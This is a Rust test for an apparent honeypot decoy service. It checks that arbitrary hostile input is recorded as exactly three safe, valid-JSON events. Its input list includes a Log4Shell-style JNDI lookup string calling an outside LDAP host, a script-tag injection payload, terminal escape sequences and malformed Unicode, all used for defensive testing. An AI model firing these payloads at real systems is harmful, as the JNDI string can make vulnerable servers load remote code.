//! Hostile bytes: exactly the promised events, whatever comes.

use trapline_schemas::{Action, Field, Value, codec};

use crate::decoy::testing::{Stage, settings, spec};
use crate::record::make;

const SILENT: &str = "service = 'banner'\nos = 'linux'\nproduct = 'x'\n[look]\n";

#[tokio::test]
async fn any_bytes_are_exactly_a_connect_a_payload_and_an_end_and_valid_json() {
    let hostile: &[&[u8]] = &[
        b"\0\0\0\0",
        b"a\r\nb\r\n\r\n",
        b"\x1b[2J\x1b]0;owned\x07",
        "\u{202e}evil\u{2028}line\u{85}next\u{feff}".as_bytes(),
        b"\xff\xfe\xc3\x28\xf0\x28\x8c\xbc",
        b"${jndi:ldap://203.0.113.9/a}",
        b"<script>alert(1)</script>\"}],\"x\":{\"",
        &[b'['; 100_000],
    ];
    for bytes in hostile {
        let mut stage = Stage::open(spec(SILENT)).await;
        stage.talk(bytes).await;
        let mut hits = stage.session().await;
        hits.extend(stage.end().await);
        let events = make(settings(), hits);
        let actions: Vec<Action> = events.iter().map(|event| event.action).collect();
        assert_eq!(actions, [Action::Connect, Action::Payload, Action::SessionEnd]);
        for event in &events {
            let body = String::from_utf8(codec::encode(event)).unwrap();
            serde_json::from_str::<serde_json::Value>(&body).unwrap();
            assert!(!body.chars().any(char::is_control), "{body}");
        }
        let kept = bytes[..bytes.len().min(64 << 10)].into();
        assert_eq!(events[1].get(Field::PayloadBase64), Some(&Value::Bytes(kept)));
    }
}
